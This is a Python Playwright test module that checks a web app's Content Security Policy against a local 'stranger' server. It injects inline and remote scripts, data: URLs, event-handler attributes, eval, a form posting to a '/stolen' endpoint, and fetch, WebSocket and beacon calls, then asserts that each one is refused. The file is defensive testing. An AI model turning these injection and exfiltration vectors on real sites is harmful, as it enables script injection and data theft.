"""The content security policy: what it forbids is tried in a real browser and refused there."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.serving import Serving

pytestmark = pytest.mark.slow

LISTEN = """() => {
  window.refusals = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    window.refusals.push([event.effectiveDirective, event.blockedURI, event.disposition]));
}"""
ADD = """([tag, values]) => {
  const made = Object.assign(document.createElement(tag), values);
  document.body.append(made);
  if (tag === "form") made.submit();
}"""
LATER = """(text) => new Promise((tell) => setTimeout(() => {
  const tries = {
    eval: () => (0, eval)(text), Function: () => new Function(text)(),
  };
  const came = {};
  for (const [name, what] of Object.entries(tries)) {
    try { what(); came[name] = "done"; } catch (error) { came[name] = error.name; }
  }
  tell(came);
}))"""


class Stranger(ThreadingHTTPServer):
    """Another site, which counts what it is asked for."""

    def __init__(self, portal: str) -> None:
        self.asked: list[str] = []
        self.page = f"<h1>stranger</h1><iframe src='{portal}/'></iframe>"
        super().__init__(("127.0.0.1", 0), Answer)

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class Answer(BaseHTTPRequestHandler):
    """Gives a page that frames the portal, or a script."""

    server: Stranger

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        script = self.path.endswith(".js")
        body = b"window.pwned = true" if script else self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if script else "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET  # noqa: N815 - the library's name

    def log_message(self, *_: Any) -> None:
        """Says nothing."""


@pytest.fixture(autouse=True)
def tidy() -> None:
    """The browser keeps connections to the other site open as it likes; the module closes it."""


@pytest.fixture(scope="module")
def stranger(serving: Serving) -> Iterator[Stranger]:
    with Stranger(serving.origin) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def library(signed_in: BrowserContext, serving: Serving) -> Iterator[Page]:
    """The library, which works, and a note of what is refused."""
    page = signed_in.new_page()
    page.goto(serving.origin)
    page.get_by_role("heading", name="Library").wait_for()
    page.evaluate(LISTEN)
    yield page
    assert page.evaluate("window.pwned") is None
    page.close()


def refused(page: Page, directive: str) -> None:
    """Wait until the browser says that the policy forbade it."""
    page.wait_for_function(
        "wanted => window.refusals.some(([one,, how]) => one === wanted && how === 'enforce')",
        arg=directive,
    )


def test_the_page_works_under_it(library: Page) -> None:
    expect(
        library.get_by_role("link", name="blackout").or_(library.locator("main h1")).first
    ).to_be_visible()
    assert library.evaluate("window.refusals") == []


@pytest.mark.parametrize(
    ("tag", "values", "directive"),
    [
        ("script", {"textContent": "window.pwned = true"}, "script-src-elem"),
        ("script", {"src": "{stranger}/evil.js"}, "script-src-elem"),
        ("script", {"src": "data:text/javascript,window.pwned=true"}, "script-src-elem"),
        ("link", {"rel": "stylesheet", "href": "{stranger}/evil.css"}, "style-src-elem"),
        ("img", {"src": "{stranger}/pixel.png"}, "img-src"),
        ("iframe", {"src": "{stranger}/"}, "frame-src"),
        ("object", {"data": "{stranger}/plugin"}, "object-src"),
        ("form", {"action": "{stranger}/stolen", "method": "post"}, "form-action"),
        ("base", {"href": "{stranger}/"}, "base-uri"),
    ],
)
def test_an_element_that_is_slipped_in(
    library: Page, stranger: Stranger, tag: str, values: dict[str, str], directive: str
) -> None:
    before = len(stranger.asked)
    filled = {key: value.replace("{stranger}", stranger.origin) for key, value in values.items()}
    library.evaluate(ADD, [tag, filled])
    refused(library, directive)
    assert len(stranger.asked) == before
    assert library.evaluate("document.querySelector('main h1').textContent") == "Library"


def test_a_style_that_is_slipped_in(library: Page) -> None:
    """Our own scripts' style elements carry the page's nonce; those of markup do not."""
    markup = "<style>body { display: none }</style><p id=y style='color: red'>y</p>"
    library.evaluate("markup => document.body.insertAdjacentHTML('beforeend', markup)", markup)
    refused(library, "style-src-elem")
    refused(library, "style-src-attr")
    assert library.evaluate("getComputedStyle(document.body).display") != "none"


def test_a_handler_in_an_attribute(library: Page) -> None:
    library.evaluate(
        "document.body.insertAdjacentHTML('beforeend',"
        "'<b id=x onclick=\"window.pwned = true\">x</b>')"
    )
    library.evaluate("document.getElementById('x').click()")
    refused(library, "script-src-attr")


def test_text_is_not_run(library: Page) -> None:
    came = library.evaluate(LATER, "window.pwned = true")
    assert came == {"eval": "EvalError", "Function": "EvalError"}
    refused(library, "script-src")


@pytest.mark.parametrize(
    "ask",
    [
        "address => { fetch(address + '/fetched').catch(() => undefined); }",
        "address => { new WebSocket(address.replace('http', 'ws')); }",
        "address => { navigator.sendBeacon(address + '/beacon'); }",
    ],
)
def test_nothing_is_told_to_another_site(library: Page, stranger: Stranger, ask: str) -> None:
    before = len(stranger.asked)
    library.evaluate(ask, stranger.origin)
    refused(library, "connect-src")
    assert len(stranger.asked) == before


def test_another_site_cannot_frame_it(signed_in: BrowserContext, stranger: Stranger) -> None:
    page, said = signed_in.new_page(), list[str]()
    page.on("console", lambda line: said.append(line.text))
    page.goto(stranger.origin)
    frame = page.frames[1]
    expect(page.locator("iframe")).to_be_visible()
    assert frame.url.startswith("chrome-error:")
    assert any("frame-ancestors" in line for line in said)
    page.close()
